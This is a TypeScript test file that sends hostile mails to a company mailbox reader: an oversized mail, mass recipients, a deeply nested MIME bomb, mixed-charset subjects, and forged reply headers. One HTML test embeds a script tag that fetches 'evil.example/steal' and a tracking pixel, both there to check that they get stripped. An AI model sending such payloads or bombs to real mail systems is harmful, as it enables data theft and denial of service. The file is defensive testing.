import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { newLead } from "@tests/support/lead-fixtures";
import { storeBackends } from "@tests/support/store-backends";
import { rawMail } from "@tests/support/test-mail";
import { startImap, type TestImap } from "@tests/support/test-imap";
import type { InboundMessage } from "@contracts/people";
import type { Store } from "../store/store";
import { mailId } from "../deliveries/outside-ids";
import { defaultMessageLimits } from "./parse-message";
import { startInboundReader, type InboundReader } from "./reader";

/**
 * Hostile mail in the company mailbox, read by the reader from a real Dovecot: each is read
 * within the reader's limits (a cut fetch, a bounded number of files, text only) and the mail
 * after it is read as usual. On SQLite: what the store does with a mail is the same on both
 * (server/store/inbound/inbound.test.ts).
 */

const { backends } = storeBackends("inbound-hostile");
const [, sqlite] = backends[0] as (typeof backends)[number];
const siteHost = "www.company.example";
let imap: TestImap;
let store: Store;
let reader: InboundReader | undefined;
let leadId: number;

beforeAll(async () => {
  imap = await startImap();
  store = await (await sqlite.fresh())();
  leadId = (await store.storeLead(newLead({}, { email: "ali@example.com" }))).id;
}, 60_000);
afterEach(async () => {
  await reader?.stop();
  reader = undefined;
});
afterAll(async () => {
  await store?.close();
  await imap?.close();
});

let boxes = 0;
/** Puts the mails, then "the end", in a mailbox of their own and reads them to the end. */
async function readAll(mails: Array<string | Buffer>) {
  const mailbox = `Hostile${++boxes}`;
  await imap.create(mailbox);
  await imap.append(
    [...mails, rawMail({ subject: "the end", body: `End of ${mailbox}` })],
    mailbox,
  );
  reader = startInboundReader(
    store,
    {
      ...imap.connection,
      mailbox,
      siteHost,
      pollMs: 500,
    },
    { warn() {}, info() {} },
  );
  const until = Date.now() + 60_000;
  for (;;) {
    const messages = await inboundMessages();
    const end = messages.findIndex((message) => message.text === `End of ${mailbox}`);
    if (end >= 0) return messages.slice(end - mails.length, end);
    if (Date.now() > until) throw new Error(`the reader did not reach the end of ${mailbox}`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

async function inboundMessages(): Promise<InboundMessage[]> {
  const person = (await store.getLead(leadId))?.personId as number;
  return ((await store.getPerson(person))?.events ?? []).flatMap((event) =>
    event.type === "inbound" ? [event.message] : [],
  );
}

describe("hostile mail", () => {
  it("reads 8 MB of a 50 MB mail, marks it cut, and goes on", async () => {
    const line = `${"x".repeat(76)}\r\n`;
    const huge = rawMail({
      subject: "huge",
      body: `Start of a huge mail.\n${line.repeat((50 * 1024 * 1024) / line.length)}`,
    });
    expect(huge.length).toBeGreaterThan(50 * 1024 * 1024);
    const [message] = await readAll([huge]);
    expect(message?.subject).toBe("huge");
    const full = await store.getInboundMessage(message?.id as number);
    expect(full?.truncated).toBe(true);
    expect(full?.fullText.length).toBeLessThanOrEqual(defaultMessageLimits.maxBytes);
  }, 120_000);

  it("reads a mail to 10,000 recipients", async () => {
    const to = Array.from({ length: 10_000 }, (_, index) => `person${index}@example.net`).join(
      ", ",
    );
    const [message] = await readAll([rawMail({ to, subject: "many", body: "To everyone." })]);
    expect(message).toMatchObject({
      from: "ali@example.com",
      subject: "many",
      text: "To everyone.",
    });
  }, 60_000);

  it("reads a MIME bomb: parts nested 500 deep, 5,000 files (its headers only), 100 (20 kept)", async () => {
    const depth = 500;
    let nested = "Content-Type: text/plain\r\n\r\nThe innermost part.\r\n";
    for (let level = 0; level < depth; level++)
      nested = `Content-Type: multipart/mixed; boundary="b${level}"\r\n\r\n--b${level}\r\n${nested}--b${level}--\r\n`;
    const deep = rawMail({
      subject: "deep",
      headers: [nested.slice(0, nested.indexOf("\r\n"))],
      body: nested.slice(nested.indexOf("\r\n\r\n") + 4),
    });
    const manyFiles = (count: number, subject: string) =>
      rawMail({
        subject,
        headers: ['Content-Type: multipart/mixed; boundary="many"'],
        body: `--many\r\nContent-Type: text/plain\r\n\r\nSee the files.\r\n${Array.from(
          { length: count },
          (_, index) =>
            `--many\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="f${index}.bin"\r\nContent-Transfer-Encoding: base64\r\n\r\nAAAA\r\n`,
        ).join("")}--many--`,
      });
    const [deepMessage, bomb, hundred] = await readAll([
      deep,
      manyFiles(5000, "a bomb"),
      manyFiles(100, "a hundred files"),
    ]);
    expect(deepMessage).toMatchObject({ subject: "deep", text: "The innermost part." });
    // Past the parser's 1,000 parts: its headers and a note, no file.
    expect(bomb).toMatchObject({ subject: "a bomb", attachments: [] });
    expect(bomb?.text).toMatch(/more parts than the desk reads/);
    expect(hundred?.text).toBe("See the files.");
    expect(hundred?.attachments).toHaveLength(defaultMessageLimits.maxAttachments);
  }, 120_000);

  it("decodes a subject of encoded words in a dozen charsets", async () => {
    const words: Array<[string, string, string]> = [
      ["utf-8", "R3LDvMOfZSBhdXMgWsO8cmljaA==", "Grüße aus Zürich"],
      ["iso-8859-1", "Q2Fm6SBjcuhtZQ==", "Café crème"],
      ["iso-8859-2", "WmG/87PmIGfqtmyx", "Zażółć gęślą"],
      ["windows-1251", "z/Do4uXyIOzo8A==", "Привет мир"],
      ["koi8-r", "5M/C0tnKIMTFztg=", "Добрый день"],
      ["iso-8859-7", "yuHr5+zd8eE=", "Καλημέρα"],
      ["windows-1256", "49HNyMcgyN/j", "مرحبا بكم"],
      ["shift_jis", "grGC8YLJgr+CzQ==", "こんにちは"],
      ["euc-kr", "vsiz58fPvLy/5A==", "안녕하세요"],
      ["gb2312", "xOO6w8rAvec=", "你好世界"],
      ["big5", "wcLBwqdBrcw=", "謝謝你們"],
      ["iso-8859-9", "VGX+ZWtr/HJsZXI=", "Teşekkürler"],
    ];
    // Encoded words separated by a space: each is decoded, and the spaces between them go.
    const subject = words
      .map(([charset, base64]) => `=?${charset}?B?${base64}?=`)
      .join("\r\n =?utf-8?Q?_?= ");
    const [message] = await readAll([rawMail({ subject, body: "Greetings." })]);
    expect(message?.subject).toBe(words.map(([, , text]) => text).join(" "));
  }, 60_000);

  it("keeps an HTML mail as text: no script, no remote image", async () => {
    const html = rawMail({
      subject: "html",
      headers: ["Content-Type: text/html; charset=utf-8"],
      body: '<p>Hello <b>there</b>, see our offer.</p><script>fetch("https://evil.example/steal")</script><img src="https://tracker.example/pixel.gif?u=1" width="1" height="1"><style>p{color:red}</style>',
    });
    const [message] = await readAll([html]);
    expect(message?.text).toContain("Hello there, see our offer.");
    const full = await store.getInboundMessage(message?.id as number);
    for (const text of [message?.text ?? "", full?.fullText ?? ""]) {
      expect(text).not.toMatch(/<script|evil\.example|<img|tracker\.example|color:red/);
    }
  }, 60_000);

  it("does not put a forged In-Reply-To on another person's thread", async () => {
    const victim = await store.storeLead(newLead({}, { email: "victim@example.org" }));
    const claimed = await store.claimDueDeliveries(Date.now() + 60_000);
    const nonce = claimed.find((item) => item.lead?.id === victim.id)?.lead?.nonce ?? null;
    const forged = mailId("lead", { id: victim.id, nonce }, siteHost);
    const [message] = await readAll([
      rawMail({ subject: "forged", inReplyTo: forged, references: forged, body: "Let me in." }),
    ]);
    // From ali@example.com: it joins Ali's lead by address, never the victim's thread.
    expect(message?.text).toBe("Let me in.");
    const person = (await store.getLead(victim.id))?.personId as number;
    const events = (await store.getPerson(person))?.events ?? [];
    expect(events.filter((event) => event.type === "inbound")).toEqual([]);
  }, 60_000);
});
